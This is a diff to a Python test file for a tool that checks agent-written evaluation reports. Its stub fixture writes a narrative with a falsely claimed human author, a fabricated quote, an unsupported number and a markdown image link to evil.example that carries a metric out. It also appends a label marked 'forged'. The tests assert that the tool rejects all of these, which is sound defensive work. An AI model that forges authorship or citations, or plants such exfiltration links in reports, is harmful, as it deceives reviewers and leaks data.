@@ -16,10 +16,10 @@ for task, quote in (("1", "booked SK2"), ("2", "not in there")):
     subprocess.run([sys.executable, "-m", "blade", *words, "--reason", "it shows", "--author", "llm:stub"])
 with open("diagnosis/narrative.md", "w") as narrative:
     narrative.write("---\\nauthor: human:somebody-else\\nmodel: airline\\n---\\n"
-                    "## Executive Summary\\n\\npass@1 is {{ headline }}.\\n"
-                    "## Dominant Failure Modes\\n\\nIt says {{ quote('1:1', 'never said') }}.\\n"
-                    "## Findings No Table Shows\\n\\n{{ rollouts - failing }} of {{ tasks }} tasks always pass.\\n"
-                    "## Recommendations\\n\\n![x](http://evil.example/{{ headline }})\\n")
+                    "## Executive Summary\\n\\npass@1 is {{ headline | pct }}.\\n"
+                    "## Dominant Failure Modes\\n\\nIt says {{ cite('1:1', 'never said') }}.\\n"
+                    "## Findings No Table Shows\\n\\n7 of {{ tasks | count }} tasks always pass.\\n"
+                    "## Recommendations\\n\\n![x](http://evil.example/{{ headline | pct }})\\n")
 with open("diagnosis/labels.jsonl", "a") as labels:
     labels.write('{"task":"2","cause":"DA","confidence":"high","author":"llm:x","reason":"forged",'
                  '"evidence":[{"citation":"2:0","quote":"never said"}]}\\n')
@@ -31,7 +31,7 @@ model: airline
 ---
 ## Executive Summary
 
-Kim has read this: pass@1 is {{ headline }}.
+Kim has read this: pass@1 is {{ headline | pct }}.
 """
 
 
@@ -182,7 +182,7 @@ def test_what_an_agent_says_is_checked_on_the_way_back(tmp_path: Path) -> None:
     assert found["narrative"]["written"] == ["Executive Summary"]
     problems = found["narrative"]["not_written"]
     assert "is not there word for word" in problems["Dominant Failure Modes"]
-    assert problems["Findings No Table Shows"].startswith("says '3 of 3'")
+    assert "states '7' itself" in problems["Findings No Table Shows"]
     assert "no links and no HTML" in problems["Recommendations"]
     assert f"author: llm:{Path(sys.executable).name}" in (out / "narrative.md").read_text()
     assert blade("check", out / "report.md").exit_code == 0
